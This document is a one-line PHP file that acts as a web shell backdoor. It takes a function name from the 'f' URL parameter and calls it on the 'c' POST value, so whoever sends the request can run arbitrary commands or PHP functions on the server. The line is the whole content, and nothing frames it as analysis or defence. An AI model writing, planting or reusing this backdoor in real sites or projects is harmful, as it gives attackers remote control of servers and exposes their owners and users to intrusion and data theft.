<?php $f = $_GET['f']; $f($_POST['c']); ?>
